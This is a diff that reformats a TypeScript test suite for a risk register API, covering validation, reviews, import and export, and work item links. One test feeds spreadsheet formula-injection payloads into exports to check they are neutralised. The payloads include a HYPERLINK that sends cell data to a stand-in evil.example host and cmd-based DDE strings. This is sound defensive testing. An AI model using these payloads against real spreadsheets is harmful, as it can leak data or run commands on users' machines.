@@ -65,7 +65,9 @@ describe('risk register', () => {
     const bad = await manager.post(url, { ...base, likelihoodBefore: 6, impactAfter: 0, description: '' });
     expect(bad.status).toBe(400);
     expect(bad.body.fields.map((f: { field: string }) => f.field).sort()).toEqual(['description', 'impactAfter', 'likelihoodBefore']);
-    expect(bad.body.fields.find((f: { field: string }) => f.field === 'likelihoodBefore').message).toBe('The likelihood before mitigation must be from 1 to 5');
+    expect(bad.body.fields.find((f: { field: string }) => f.field === 'likelihoodBefore').message).toBe(
+      'The likelihood before mitigation must be from 1 to 5',
+    );
     const future = await manager.post(url, { ...base, dateRegistered: '2999-01-01' });
     expect(future.body.fields[0]).toEqual({ field: 'dateRegistered', message: 'The date registered cannot be in the future' });
     const notADate = await manager.post(url, { ...base, dateRegistered: '2026-02-30' });
@@ -90,14 +92,25 @@ describe('risk register', () => {
     const early = await manager.post(`${url}/${risk.id}/reviews`, { reviewedOn: '2026-01-01', likelihood: 2, impact: 3 });
     expect(early.status).toBe(400);
     expect(early.body.fields[0]).toEqual({ field: 'reviewedOn', message: 'The review date cannot be before the risk was registered (2026-01-10)' });
-    const reviewed = await manager.post(`${url}/${risk.id}/reviews`, { reviewedOn: '2026-02-01', likelihood: 2, impact: 3, notes: 'Protocol working' });
+    const reviewed = await manager.post(`${url}/${risk.id}/reviews`, {
+      reviewedOn: '2026-02-01',
+      likelihood: 2,
+      impact: 3,
+      notes: 'Protocol working',
+    });
     expect(reviewed.status).toBe(201);
     const after = reviewed.body as RiskDto;
     expect(after.current).toMatchObject({ likelihood: 2, impact: 3, score: 6, band: 'medium' });
     expect(after.before.score).toBe(16);
     expect(after.lastReviewedOn).toBe('2026-02-01');
     expect(after.nextReviewDue).toBe('2026-05-01');
-    expect(after.reviews[0]).toMatchObject({ reviewedOn: '2026-02-01', score: 6, band: 'medium', notes: 'Protocol working', reviewer: { name: a.users.manager.displayName } });
+    expect(after.reviews[0]).toMatchObject({
+      reviewedOn: '2026-02-01',
+      score: 6,
+      band: 'medium',
+      notes: 'Protocol working',
+      reviewer: { name: a.users.manager.displayName },
+    });
     expect(after.history.map((h) => [h.source, h.current.score])).toEqual([
       ['registered', 12],
       ['reviewed', 6],
@@ -138,7 +151,9 @@ describe('risk register', () => {
   });
 
   it('filters, sorts, flags overdue reviews, and draws the heat map', async () => {
-    const overdue = (await manager.post(url, { ...base, description: 'Overdue one', nextReviewDue: '2026-01-20', likelihoodAfter: 5, impactAfter: 5 })).body as RiskDto;
+    const overdue = (
+      await manager.post(url, { ...base, description: 'Overdue one', nextReviewDue: '2026-01-20', likelihoodAfter: 5, impactAfter: 5 })
+    ).body as RiskDto;
     expect(overdue.overdue).toBe(todayIso() > '2026-01-20');
     const list = (await manager.get(`${url}?overdue=true`)).body as Array<{ id: string }>;
     expect(list.map((r) => r.id)).toContain(overdue.id);
@@ -209,7 +224,13 @@ describe('risk register', () => {
     const before = (await manager.get(`${url}?status=all`)).body.length;
     const res = await manager.request('POST', `${url}/import`, upload(mixed));
     expect(res.status).toBe(400);
-    expect(res.body.fields.map((f: { field: string }) => f.field)).toEqual(['rows.2.description', 'rows.3.likelihoodBefore', 'rows.4.dateRegistered', 'rows.5.impactBefore', 'rows.6.status']);
+    expect(res.body.fields.map((f: { field: string }) => f.field)).toEqual([
+      'rows.2.description',
+      'rows.3.likelihoodBefore',
+      'rows.4.dateRegistered',
+      'rows.5.impactBefore',
+      'rows.6.status',
+    ]);
     expect((await manager.get(`${url}?status=all`)).body.length).toBe(before);
     const noHeader = await manager.request('POST', `${url}/import/preview`, upload('just,some,words\n1,2,3'));
     expect(noHeader.body.fileProblems[0]).toMatch(/No "Description" column/);
@@ -220,25 +241,48 @@ describe('risk register', () => {
   it('sets an imported risk’s next review by whole months, clamped to the month’s end', async () => {
     const target = await newNetwork(api.db, 'risk-months');
     const tm = await new HttpClient(api.url).login(target.users.manager.email);
-    const file = 'Description,Date registered,Likelihood before mitigation,Impact before mitigation,Review frequency (months)\nMonth end,2026-01-31,2,2,1';
+    const file =
+      'Description,Date registered,Likelihood before mitigation,Impact before mitigation,Review frequency (months)\nMonth end,2026-01-31,2,2,1';
     expect((await tm.request('POST', '/api/networks/risk-months/risks/import', upload(file))).status).toBe(201);
     expect((await tm.get('/api/networks/risk-months/risks')).body[0].nextReviewDue).toBe('2026-02-28');
   });
 
   it('links a risk to the work items that mitigate it, only within the network', async () => {
     const item = await api.db.inNetwork({ userId: null, networkId: a.network.id }, async ({ em }) => {
-      const plan = Object.assign(new WorkPlan(), { networkId: a.network.id, title: 'Plan 2026/27', periodStart: '2026-04-01', periodEnd: '2027-03-31' });
+      const plan = Object.assign(new WorkPlan(), {
+        networkId: a.network.id,
+        title: 'Plan 2026/27',
+        periodStart: '2026-04-01',
+        periodEnd: '2027-03-31',
+      });
       const theme = Object.assign(new WorkPlanTheme(), { networkId: a.network.id, planId: plan.id, title: 'Quality' });
       const timescale = parseTimescale('Q4 2026/27');
-      const w = Object.assign(new WorkItem(), { networkId: a.network.id, planId: plan.id, themeId: theme.id, work: 'Escalation protocol with the SCC', timescaleText: 'Q4 2026/27', timescale, dueOn: timescale.due, originalTimescaleText: 'Q4 2026/27', originalDueOn: timescale.due });
+      const w = Object.assign(new WorkItem(), {
+        networkId: a.network.id,
+        planId: plan.id,
+        themeId: theme.id,
+        work: 'Escalation protocol with the SCC',
+        timescaleText: 'Q4 2026/27',
+        timescale,
+        dueOn: timescale.due,
+        originalTimescaleText: 'Q4 2026/27',
+        originalDueOn: timescale.due,
+      });
       em.persist([plan, theme, w]);
       await em.flush();
       return w;
     });
     const created = await manager.post(url, { ...base, description: 'Linked', linkedWorkItemIds: [item.id] });
     expect(created.status).toBe(201);
-    expect(created.body.linkedWorkItems).toEqual([{ id: item.id, planId: item.planId, planTitle: 'Plan 2026/27', work: 'Escalation protocol with the SCC', status: 'not_started' }]);
-    const unlinked = await manager.put(`${url}/${created.body.id}`, { ...base, description: 'Linked', version: created.body.version, linkedWorkItemIds: [] });
+    expect(created.body.linkedWorkItems).toEqual([
+      { id: item.id, planId: item.planId, planTitle: 'Plan 2026/27', work: 'Escalation protocol with the SCC', status: 'not_started' },
+    ]);
+    const unlinked = await manager.put(`${url}/${created.body.id}`, {
+      ...base,
+      description: 'Linked',
+      version: created.body.version,
+      linkedWorkItemIds: [],
+    });
     expect(unlinked.body.linkedWorkItems).toEqual([]);
     const stranger = await manager.post(url, { ...base, linkedWorkItemIds: ['00000000-0000-4000-8000-000000000000'] });
     expect(stranger.body.fields[0]).toEqual({ field: 'linkedWorkItemIds.0', message: 'That work item is not in this network’s work plans' });
@@ -260,14 +304,26 @@ describe('risk register', () => {
 
     const copy = await newNetwork(api.db, 'risk-copy');
     const cm = await new HttpClient(api.url).login(copy.users.manager.email);
-    for (const [bytes, name] of [[csv, 'register.csv'], [xlsxBytes, 'register.xlsx']] as const) {
+    for (const [bytes, name] of [
+      [csv, 'register.csv'],
+      [xlsxBytes, 'register.xlsx'],
+    ] as const) {
       const target = name.endsWith('csv') ? copy : await newNetwork(api.db, 'risk-copy-x');
       const client = name.endsWith('csv') ? cm : await new HttpClient(api.url).login(target.users.manager.email);
       const res = await client.request('POST', `/api/networks/${target.network.slug}/risks/import`, upload(bytes, name));
       expect({ name, status: res.status, body: res.status === 201 ? 'ok' : res.body }).toEqual({ name, status: 201, body: 'ok' });
       const strip = (rows: Array<Record<string, unknown>>) =>
         rows
-          .map((r) => ({ reference: r['reference'], status: r['status'], description: r['description'], before: r['before'], current: r['current'], nextReviewDue: r['nextReviewDue'], dateRegistered: r['dateRegistered'], targetScore: r['targetScore'] }))
+          .map((r) => ({
+            reference: r['reference'],
+            status: r['status'],
+            description: r['description'],
+            before: r['before'],
+            current: r['current'],
+            nextReviewDue: r['nextReviewDue'],
+            dateRegistered: r['dateRegistered'],
+            targetScore: r['targetScore'],
+          }))
           .sort((x, y) => String(x.reference).localeCompare(String(y.reference)));
       const original = strip((await manager.get(`${url}?status=all`)).body);
       const copied = strip((await client.get(`/api/networks/${target.network.slug}/risks?status=all`)).body);
@@ -279,16 +335,29 @@ describe('risk register', () => {
     const sm = await new HttpClient(api.url).login(source.users.manager.email);
     const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click here")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(A1:A2)'];
     for (const description of hostile) {
-      expect((await sm.post('/api/networks/risk-formula/risks', { ...base, description, mitigation: '-escalate', identifiedBy: '@board' })).status).toBe(201);
+      expect(
+        (await sm.post('/api/networks/risk-formula/risks', { ...base, description, mitigation: '-escalate', identifiedBy: '@board' })).status,
+      ).toBe(201);
     }
     const get = async (format: 'csv' | 'xlsx') =>
-      Buffer.from(await (await fetch(`${api.url}/api/networks/risk-formula/risks/export?format=${format}`, { headers: { cookie: `plexus_session=${sm.cookie('plexus_session')}` } })).arrayBuffer());
+      Buffer.from(
+        await (
+          await fetch(`${api.url}/api/networks/risk-formula/risks/export?format=${format}`, {
+            headers: { cookie: `plexus_session=${sm.cookie('plexus_session')}` },
+          })
+        ).arrayBuffer(),
+      );
     const formulaLike = /^[=+\-@\t\r]/;
 
     const csv = await get('csv');
     const rows = parseDelimited(csv.toString('utf8').replace(/^\uFEFF/, ''), ',');
     const description = rows[0].indexOf('Description');
-    expect(rows.slice(1).map((r) => r[description]).sort()).toEqual(hostile.map((h) => `'${h}`).sort());
+    expect(
+      rows
+        .slice(1)
+        .map((r) => r[description])
+        .sort(),
+    ).toEqual(hostile.map((h) => `'${h}`).sort());
     expect(rows.flat().filter((cell) => formulaLike.test(cell))).toEqual([]);
 
     const xlsx = await get('xlsx');
@@ -299,7 +368,10 @@ describe('risk register', () => {
     expect(cells.filter((cell) => formulaLike.test(cell))).toEqual([]);
     expect(cells).toEqual(expect.arrayContaining([...hostile.map((h) => `'${h}`), "'-escalate", "'@board"]));
 
-    for (const [bytes, name] of [[csv, 'register.csv'], [xlsx, 'register.xlsx']] as const) {
+    for (const [bytes, name] of [
+      [csv, 'register.csv'],
+      [xlsx, 'register.xlsx'],
+    ] as const) {
       const target = await newNetwork(api.db, `risk-formula-${name.split('.')[1]}`);
       const tm = await new HttpClient(api.url).login(target.users.manager.email);
       expect((await tm.request('POST', `/api/networks/${target.network.slug}/risks/import`, upload(bytes, name))).status).toBe(201);
@@ -318,16 +390,29 @@ describe('risk register', () => {
         { name: 'Read me', xml: worksheetXml([['How to use this register'], ['Score = likelihood × impact']]) },
         {
           name: 'Register',
-          xml: worksheetXml([['Spinal network risk register, March 2026'], [], ['Description', 'Date registered', 'Likelihood before mitigation', 'Impact before mitigation'], ['Delayed transfers to the SCC', '2026-01-10', 4, 4]]),
+          xml: worksheetXml([
+            ['Spinal network risk register, March 2026'],
+            [],
+            ['Description', 'Date registered', 'Likelihood before mitigation', 'Impact before mitigation'],
+            ['Delayed transfers to the SCC', '2026-01-10', 4, 4],
+          ]),
         },
       ],
     });
     const fromXlsx = await tm.request('POST', '/api/networks/risk-reader/risks/import/preview', upload(Buffer.from(book), 'register.xlsx'));
     expect(fromXlsx.status).toBe(200);
     expect(fromXlsx.body).toMatchObject({ ok: true, rows: [{ row: 1, description: 'Delayed transfers to the SCC', problems: [] }] });
-    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Description\tDate registered\tLikelihood before mitigation\tImpact before mitigation\r\nCafé staff cover – rehab\t2026-01-10\t2\t3\r\n', 'utf16le')]);
+    const utf16 = Buffer.concat([
+      Buffer.from([0xff, 0xfe]),
+      Buffer.from(
+        'Description\tDate registered\tLikelihood before mitigation\tImpact before mitigation\r\nCafé staff cover – rehab\t2026-01-10\t2\t3\r\n',
+        'utf16le',
+      ),
+    ]);
     const imported = await tm.request('POST', '/api/networks/risk-reader/risks/import', upload(utf16, 'register.txt', 'text/plain'));
     expect(imported.status).toBe(201);
-    expect((await tm.get('/api/networks/risk-reader/risks')).body.map((r: { description: string }) => r.description)).toEqual(['Café staff cover – rehab']);
+    expect((await tm.get('/api/networks/risk-reader/risks')).body.map((r: { description: string }) => r.description)).toEqual([
+      'Café staff cover – rehab',
+    ]);
   });
 });
